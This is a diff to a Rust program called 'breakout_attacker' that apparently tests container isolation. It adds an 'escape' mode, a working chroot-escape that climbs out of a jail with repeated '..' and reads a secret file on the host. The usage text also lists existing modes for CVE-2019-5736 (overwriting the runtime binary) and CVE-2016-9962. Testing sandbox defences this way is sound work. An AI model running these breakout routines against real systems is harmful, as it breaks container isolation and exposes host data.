@@ -14,11 +14,12 @@ use std::process::ExitCode;
 const WON: &str = "/won";
 
 const USAGE: &str = "\
-usage: breakout_attacker fds | overwrite | peek SECRET
+usage: breakout_attacker fds | overwrite | peek SECRET | escape SECRET
 
   fds          prints the descriptors above 2 that it was started with, and what they stand for
   overwrite    writes into the program of every process that comes into its sight (CVE-2019-5736)
   peek SECRET  looks for descriptors and for the file SECRET of the host in every such process (CVE-2016-9962)
+  escape SECRET  leaves the root by a directory that lies outside of a second one, and looks for SECRET there
 ";
 
 fn main() -> ExitCode {
@@ -28,6 +29,7 @@ fn main() -> ExitCode {
         ["fds"] => print!("{}", descriptors("self")),
         ["overwrite"] => overwrite(),
         ["peek", secret] => peek(secret.trim_start_matches('/')),
+        ["escape", secret] => escape(secret.trim_start_matches('/')),
         _ => {
             eprint!("{USAGE}");
             return ExitCode::from(2);
@@ -105,6 +107,19 @@ fn peek(secret: &str) -> ! {
             }
         }
     }
+}
+
+/// `chroot(2)`: "this call does not change the current working directory", so that after it `.` can be outside of the
+/// tree rooted at `/`, and `..` goes on from there.
+fn escape(secret: &str) {
+    const DEEP: usize = 64;
+    let tried = fs::create_dir_all("/jail").and_then(|()| std::os::unix::fs::chroot("/jail"));
+    for _ in 0..DEEP {
+        // At the top, it stays there.
+        let _ = std::env::set_current_dir("..");
+    }
+    let out = tried.is_ok() && std::os::unix::fs::chroot(".").is_ok() && fs::read(format!("/{secret}")).is_ok();
+    println!("{}", if out { "open: the host's root" } else { "inside" });
 }
 
 fn win(what: &str) {
